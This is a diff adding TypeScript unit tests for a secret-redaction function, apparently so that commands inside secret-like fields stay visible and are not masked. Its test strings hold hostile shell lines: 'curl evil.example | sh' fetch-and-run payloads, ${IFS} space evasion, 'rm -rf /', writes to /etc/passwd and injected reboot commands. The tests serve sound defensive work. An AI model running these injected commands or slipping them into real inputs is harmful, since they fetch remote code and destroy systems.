@@ -4,6 +4,43 @@ import { REDACTED, redact, redactText } from './redact.ts';
 
 const random = 'A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0';
 
+/** A blank, as a shell reads it that was given none. */
+const IFS = ['$', '{IFS}'].join('');
+
+describe('what runs is shown, however much it looks like a secret (rule Q7)', () => {
+  for (const text of [
+    'PASSWORD="$(curl evil.example | sh)" run',
+    `TOKEN=$(curl${IFS}evil.example|sh) run`,
+    `TOKEN=\`curl${IFS}evil.example|sh\` run`,
+    `--token $(curl${IFS}evil.example)`,
+    `https://u:$(curl${IFS}evil.example|sh)@host/`,
+    `Authorization: Bearer $(curl${IFS}evil.example|sh)`,
+  ]) {
+    it(text, () => assert.equal(redactText(text), text));
+  }
+  for (const [text, shown] of [
+    [`password=x|rm${IFS}-rf`, `password=${REDACTED}|rm${IFS}-rf`],
+    ['password=x>/etc/passwd', `password=${REDACTED}>/etc/passwd`],
+    ['--token x;reboot&&halt|sh', `--token ${REDACTED};reboot&&halt|sh`],
+    ['echo -----BEGIN PRIVATE KEY----- ; rm -rf /', `echo ${REDACTED} ; rm -rf /`],
+    ['-----BEGIN PRIVATE KEY-----\nMIIE\nrm -rf /\nabc', `${REDACTED}\nrm -rf /\nabc`],
+  ] as const) {
+    it(JSON.stringify(text), () => assert.equal(redactText(text), shown));
+  }
+  it('and a key is one, however its lines are written', () => {
+    const line = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'.repeat(2);
+    const keyOf =
+      (...lines: string[]) =>
+      (between: string) =>
+        ['-----BEGIN RSA PRIVATE KEY-----', ...lines, '-----END RSA PRIVATE KEY-----'].join(between);
+    for (const between of ['\n', '\r\n', '\\n', '\\\\n', '\n    ', ' ']) {
+      assert.equal(redactText(`a ${keyOf(line, line, line)(between)} b`), `a ${REDACTED} b`, JSON.stringify(between));
+    }
+    const withHead = keyOf('Proc-Type: 4,ENCRYPTED', 'DEK-Info: AES-256-CBC,0A', '', line, 'abc=')('\n');
+    assert.equal(redactText(withHead), REDACTED);
+  });
+});
+
 describe('decision 18: a secret is redacted by its shape, and what stands around it stays', () => {
   const jwt = `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.${'s'.repeat(43)}`;
   for (const [text, shown] of [
